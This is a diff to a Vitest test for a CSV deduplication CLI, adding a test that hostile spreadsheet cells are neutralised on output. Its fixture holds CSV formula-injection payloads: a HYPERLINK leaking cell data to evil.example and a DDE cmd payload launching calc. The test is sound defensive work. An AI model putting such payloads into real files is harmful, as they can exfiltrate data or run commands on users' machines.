@@ -8,6 +8,7 @@ import { fileURLToPath } from 'node:url';
 import Papa from 'papaparse';
 import { afterAll, describe, expect, it } from 'vitest';
 import { runDedupe } from './cli';
+import { neutraliseCell } from '../../utils/csv/write';
 
 const FIXTURES = fileURLToPath(new URL('./__fixtures__/', import.meta.url));
 const dir = mkdtempSync(join(tmpdir(), 'dealside-dedupe-'));
@@ -38,7 +39,8 @@ describe('dedupe CLI', () => {
     const rows = readCsv(out);
     expect(rows.length).toBe(original.length);
     expect(rows[0]).toEqual([...original[0]!, 'cluster_id', 'match_score', 'match_reasons']);
-    rows.forEach((row, i) => expect(row.slice(0, original[0]!.length)).toEqual(original[i]));
+    // every original cell back, formula-like ones (a phone such as +34 …) behind a quote
+    rows.forEach((row, i) => expect(row.slice(0, original[0]!.length)).toEqual(original[i]!.map(neutraliseCell)));
     // rows 1–2 (José María / Chema), 3–4 (María José / Maria Jose), 5–6 (Robert / Bob), 9–10 (Francisco / Paco)
     for (const [a, b] of [[1, 2], [3, 4], [5, 6], [9, 10]]) expect(clusterOf(rows, a!)).toBe(clusterOf(rows, b!));
     // colleagues Ana and Juan Pérez Ruiz are two people
@@ -148,6 +150,30 @@ describe('dedupe CLI', () => {
     expect(rows.length).toBe(20_002);
     expect(rows.at(-1)!.slice(0, 2)).toEqual(['Íñigo', 'Núñez']);
   }, 60_000);
+
+  it('formula injection: hostile cells and headers are written neutralised (OWASP), the rest as read', async () => {
+    const input = join(dir, 'hostile.csv');
+    writeFileSync(
+      input,
+      [
+        'First Name,Last Name,=Email,Notes',
+        'Ana,López,ana@acme.es,"=HYPERLINK(""http://evil.example/?leak=""&A1,""Click"")"',
+        'Ana,Lopez,ANA@acme.es,+1+cmd|\' /C calc\'!A0',
+        '@SUM(1+1),-Pérez,x@acme.es,"\t=1+1"',
+      ].join('\r\n'),
+    );
+    const out = join(dir, 'out-hostile.csv');
+    let stderr = '';
+    expect(await runDedupe([input, '--out', out, '--map', 'email==Email'], { stderr: { write: (s: string) => (stderr += s) } }), stderr).toBe(0);
+    const text = readFileSync(out, 'utf8');
+    expect(text.split('\r\n')[0]).toBe(`First Name,Last Name,"'=Email",Notes,cluster_id,match_score,match_reasons`);
+    const rows = readCsv(out);
+    expect(rows[1]![3]).toBe(`'=HYPERLINK("http://evil.example/?leak="&A1,"Click")`);
+    expect(rows[2]![3]).toBe(`'+1+cmd|' /C calc'!A0`);
+    expect(rows[3]!.slice(0, 4)).toEqual(["'@SUM(1+1)", "'-Pérez", 'x@acme.es', "'\t=1+1"]);
+    for (const row of rows) for (const cell of row) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
+    expect(clusterOf(rows, 1)).toBe(clusterOf(rows, 2));
+  });
 
   it('usage errors exit with code 2', async () => {
     let stderr = '';
